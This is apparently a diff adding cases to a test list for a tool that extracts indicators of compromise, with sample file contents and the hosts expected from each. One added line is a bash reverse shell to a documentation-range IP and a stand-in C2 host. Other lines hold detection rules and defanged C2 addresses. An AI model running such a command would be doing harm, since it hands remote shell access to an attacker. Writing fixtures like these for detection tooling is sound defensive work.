@@ -106,6 +106,8 @@ LISTS = [
     ("sums.txt", f"\\{SHA256}  back\\\\slash.exe\n", [SHA256]),
     ("old.rules", 'alert tcp any any -> any 80 (msg:"x"; content:"Host|3a 20|evil.example|0d 0a|"; sid:1;)\nalert tcp any any -> any 80 (msg:"y"; content:"Host: b.example"; http_header; sid:2;)\nalert tcp any any -> any 80 (msg:"z"; content:!"Host|3a| good.example"; sid:3;)\n', ["evil.example", "b.example"]),
     ("note.txt", "4. Mẫu tệp: C:\\Windows\\a.exe, update.com\n- File name: setup.com\n- Máy chủ: update.example\n", ["update.example"]),
+    ("shell.txt", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\nexec 3<>/dev/udp/c2.example/53\n", ["203.0.113.5", "c2.example"]),
+    ("versions.txt", "Affected: FortiOS 7.2.0.1 through 7.2.4.9\nSee section 1.2.3.4.\nC2: 203.0.113.5\n", ["203.0.113.5"]),
     ("spaced.txt", "C2: http:// evil[.]example /gate\n", ["http://evil.example/gate"]),
 ]  # fmt: skip
 
